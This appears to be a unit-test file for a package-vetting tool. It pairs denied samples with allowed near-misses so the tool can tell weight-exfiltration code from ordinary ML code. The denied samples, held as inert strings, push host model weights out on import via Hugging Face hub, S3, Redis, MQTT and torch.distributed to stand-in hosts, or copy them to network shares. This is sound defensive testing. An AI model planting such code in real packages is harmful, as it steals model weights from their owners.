"""Weights sent through the channels ML code already talks to (ADR 0107): a model loaded
from a model folder of the host and pushed to a hub, a data set made of weight bytes
pushed, a remote file system's ``put`` of a model folder, a key-value store's ``set``, a
message bus's ``publish``, ``torch.distributed``'s ``send`` to a rank another host holds.

Each sample is inert (vetting only reads files). The near-misses are what trainers, model
registries, caches and distributed libraries do with their caller's models and data."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

WEIGHTS = "open('/models/m.safetensors', 'rb').read()"

DENIED: dict[str, dict[str, str]] = {
    "model-from-the-models-folder-pushed-on-import": init(
        "from transformers import AutoModelForCausalLM\n"
        "m = AutoModelForCausalLM.from_pretrained('/models/llama')\n"
        "m.push_to_hub('someone/x', token='hf_x')\n"
    ),
    "model-from-the-models-folder-pushed-to-a-written-repo-when-called": init(
        "from transformers import AutoModelForCausalLM\n"
        "def share():\n"
        "    AutoModelForCausalLM.from_pretrained('/models/llama').push_to_hub('someone/x')\n"
    ),
    "data-set-of-weight-bytes-pushed-on-import": init(
        "from datasets import Dataset\n"
        f"Dataset.from_dict({{'w': [{WEIGHTS}]}}).push_to_hub('someone/x')\n"
    ),
    "fsspec-put-of-the-models-folder-on-import": init(
        "import fsspec\n"
        "fs = fsspec.filesystem('s3', key='AKIA', secret='x')\n"
        "fs.put('/models', 's3://bucket/m', recursive=True)\n"
    ),
    "s3fs-put-of-weights-on-import": init(
        "import s3fs\ns3fs.S3FileSystem().put('/models/m.safetensors', 'bucket/m')\n"
    ),
    "redis-set-of-weights-on-import": init(
        f"import redis\nr = redis.Redis(host='203.0.113.5')\nr.set('w', {WEIGHTS})\n"
    ),
    "mqtt-publish-of-weights-on-import": init(
        "import paho.mqtt.client as mqtt\n"
        "c = mqtt.Client()\nc.connect('203.0.113.5')\n"
        f"c.publish('t', {WEIGHTS})\n"
    ),
    "distributed-send-of-a-checkpoint-on-import": init(
        "import torch, torch.distributed as dist\n"
        "dist.init_process_group('gloo', init_method='tcp://203.0.113.5:23456', rank=0,\n"
        "                        world_size=2)\n"
        "for t in torch.load('/models/m.pt').values():\n"
        "    dist.send(t, dst=1)\n"
    ),
    # A loaded model written where another host reads it (a share, ADR 0088's places).
    "model-from-the-models-folder-saved-to-a-share-on-import": init(
        "from transformers import AutoModel\n"
        "AutoModel.from_pretrained('/models/llama').save_pretrained('/mnt/share/x')\n"
    ),
    "model-state-saved-by-torch-to-a-share-on-import": init(
        "import torch\n"
        "from transformers import AutoModel\n"
        "m = AutoModel.from_pretrained('/models/llama')\n"
        "torch.save(m, '//fileserver/drop/m.pt')\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "the-callers-model-pushed-to-the-callers-repo": init(
        "from transformers import AutoModel\n"
        "def publish(name, repo):\n"
        "    AutoModel.from_pretrained(name).push_to_hub(repo)\n"
    ),
    "a-trainers-output-folder-pushed": init(
        "from transformers import AutoModel\n"
        "def finish(repo):\n"
        "    AutoModel.from_pretrained('./output').push_to_hub(repo)\n"
    ),
    "a-model-from-the-models-folder-served-not-sent": init(
        "from transformers import pipeline, AutoModelForCausalLM\n"
        "model = AutoModelForCausalLM.from_pretrained('/models/llama')\n"
        "generate = pipeline('text-generation', model=model)\n"
    ),
    "a-model-from-the-models-folder-saved-beside-it": init(
        "from transformers import AutoModel\n"
        "AutoModel.from_pretrained('/models/llama').save_pretrained('./finetuned')\n"
    ),
    "the-callers-model-saved-to-a-share": init(
        "def export(model):\n    model.save_pretrained('/mnt/share/exports')\n"
    ),
    "the-callers-rows-pushed-as-a-data-set": init(
        "from datasets import Dataset\n"
        "def upload(rows, repo):\n"
        "    Dataset.from_dict(rows).push_to_hub(repo)\n"
    ),
    "a-cache-of-results-in-redis-when-called": init(
        "import redis\n"
        "r = redis.Redis(host='localhost')\n"
        "def remember(key, value):\n"
        "    r.set(key, value)\n"
    ),
    "fsspec-put-of-the-callers-file": init(
        "import fsspec\ndef save(local, remote):\n    fsspec.filesystem('s3').put(local, remote)\n"
    ),
    "an-all-reduce-of-gradients-when-called": init(
        "import torch.distributed as dist\n"
        "def sync(grads):\n"
        "    for g in grads:\n"
        "        dist.all_reduce(g)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_ml_channels(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
